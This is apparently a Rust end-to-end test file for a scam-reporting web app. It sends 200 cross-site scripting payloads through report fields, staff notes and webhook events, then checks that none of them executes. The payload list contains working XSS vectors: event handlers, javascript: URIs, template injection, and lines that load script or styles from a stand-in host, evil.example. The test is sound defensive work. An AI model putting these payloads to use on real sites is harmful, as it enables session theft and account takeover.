//! Two hundred texts that want to run, in every field that is kept, shown on every page that shows it (OUT-01).

use fantoccini::Locator;
use serde_json::{Value, json};

use super::driver::Driver;
use super::window::{Looks, Screen, Window};
use crate::support::app::{App, on_sqlite};
use crate::support::case::Holder;

/// What each would do: set `run`, or open a dialog.
const VECTORS: [&str; 40] = [
    "<script>run=1</script>",
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<script src=data:,run=1></script>",
    "<scr<script>ipt>run=1</scr</script>ipt>",
    "<ScRiPt/x>run=1</sCrIpT>",
    "<img src=x onerror=run=1>",
    "<img src=x onerror=alert(1)//",
    "<img/src=`x`onerror=run=1>",
    "<img srcset=x onerror=run=1>",
    "<svg onload=run=1>",
    "<svg><script>run=1</script></svg>",
    "<svg><animate onbegin=run=1 attributeName=x dur=1s>",
    "<svg/onload=&#97;lert(1)>",
    "<math><a xlink:href=javascript:run=1>x</a></math>",
    "<iframe srcdoc='<script>parent.run=1</script>'></iframe>",
    "<iframe src=javascript:parent.run=1></iframe>",
    "<object data=data:text/html,<script>run=1</script>></object>",
    "<embed src=javascript:run=1>",
    "<body onload=run=1>",
    "<input autofocus onfocus=run=1>",
    "<select autofocus onfocus=run=1>",
    "<textarea autofocus onfocus=run=1>",
    "<details open ontoggle=run=1>",
    "<video><source onerror=run=1></video>",
    "<audio src=x onerror=run=1>",
    "<marquee onstart=run=1>x</marquee>",
    "<a href=javascript:run=1 autofocus>x</a>",
    "<a href='vbscript:run=1'>x</a>",
    "<form action=javascript:run=1><button autofocus>x</button></form>",
    "<button formaction=javascript:run=1>x</button>",
    "<isindex action=javascript:run=1>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';*{background:url(https://evil.example)}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<div style=background:url(https://evil.example)>x</div>",
    "<template><script>run=1</script></template>",
    "{{constructor.constructor('run=1')()}}${run=1}#{run=1}<%=run=1%>",
    "\u{202e}<xss onpointerenter=run=1 style=position:fixed;inset:0>\u{2028}",
];
/// What would end the element, attribute or comment that a text stands in.
const ENDS: [&str; 5] = ["", "\">", "'>", "</textarea></title></style></script>", "--></bdi></p>"];

fn payloads() -> Vec<String> {
    VECTORS.iter().flat_map(|vector| ENDS.iter().map(move |end| format!("{end}{vector}"))).collect()
}

async fn report(app: &App, some: &[String]) -> Holder {
    let body = json!({
        "text": format!("my usdt was stolen {}", some.join(" ")),
        "account": some[0],
        "contact": {"telegram": some[1], "phone": some[2]},
        "assets": [{"asset": some[3].chars().take(60).collect::<String>()}],
    });
    let response = app.visitor().post(app.url("/api/v1/reports")).json(&body).send().await.unwrap();
    let status = response.status();
    let answer: Value = response.json().await.unwrap();
    assert_eq!(status, 201, "{answer}");
    Holder::of(&answer)
}

/// Staff write all of them too, and a machine sends them.
async fn talked(app: &App, some: &[String]) {
    let id = app.queue().await.iter().map(|row| row["id"].as_str().unwrap().to_owned()).max().unwrap();
    for deed in ["note", "message"] {
        let said = app.staff_post(&format!("/api/v1/incidents/{id}/{deed}"), &json!({"text": some.join("\n")})).await;
        assert_eq!(said.status(), 200);
    }
    let mut event =
        json!({"type": "chain.permission-changed", "timestamp": "2026-03-02T08:59:00Z", "data": {"severity": "high"}});
    for (field, payload) in
        ["account", "title", "text", "agent", "device", "error", "domain", "url", "login"].iter().zip(some)
    {
        event["data"][*field] = Value::from(payload.clone());
    }
    assert!(app.event(&format!("msg_{id}"), &event).await.status().is_success());
}

/// Nothing ran, nothing asked, nothing became an element.
async fn quiet(window: &Window, what: &str) {
    let dialog = window.client.get_alert_text().await;
    assert!(dialog.as_ref().is_err_and(fantoccini::error::CmdError::is_no_such_alert), "{what}: {dialog:?}");
    let odd = "typeof run === 'undefined' ? [...document.querySelectorAll('main script, main style, main link, main meta, base, iframe, object, embed, img, video, audio, marquee, math, xss, template, [onerror], [onload], [onfocus], [onpointerenter], [style], [formaction]:not([formaction^=\"/staff/incidents/\"])')].map((element) => element.outerHTML.slice(0, 80)) : ['it ran']";
    assert_eq!(window.evaluate(odd.to_owned()).await, json!([]), "{what}");
    assert_eq!(window.complaints().await, Vec::<String>::new(), "{what}");
}

#[test]
fn two_hundred_texts_that_want_to_run_are_text_in_every_field() {
    on_sqlite(async |app| {
        let payloads = payloads();
        assert_eq!(payloads.len(), 200);
        let driver = Driver::start();
        let window = Window::open((&driver, &app), Looks::new(Screen::Phone, "en")).await;
        for some in payloads.chunks(20) {
            app.clock.pass(holdfast::time::Span::from_seconds(1));
            let holder = report(&app, some).await;
            holder.does(&app, "/messages", &json!({"text": some.join("\n")})).await;
            talked(&app, some).await;
            window.visit(&format!("/c/{}", holder.token)).await;
            window.client.find(Locator::Css("#code")).await.unwrap().send_keys(&holder.code).await.unwrap();
            window.follow("form.enter > button").await;
            assert!(window.reads().await.contains(&some[0][..some[0].len().min(5)]));
            quiet(&window, "the case page").await;
            window.visit("/").await;
            let fill = format!(
                "document.querySelector('#text').value = {}; document.querySelector('#account').value = {}",
                json!(some.join(" ")),
                json!(some[4])
            );
            window.evaluate(fill).await;
            window.follow("form.report > button").await;
            quiet(&window, "the answer").await;
        }
        // Ten codes in a quarter of an hour are all that one place may try.
        app.clock.pass(holdfast::time::Span::from_minutes(15));
        window.visit("/staff/sign-in").await;
        window.fill("#token", &app.token).await;
        window.follow("form.sheet > button").await;
        window.text("h1#next").await;
        quiet(&window, "the console").await;
        for row in app.queue().await {
            window.visit(&format!("/staff/incidents/{}", row["id"].as_str().unwrap())).await;
            quiet(&window, "an incident").await;
        }
        window.close(&[]).await;
    });
}
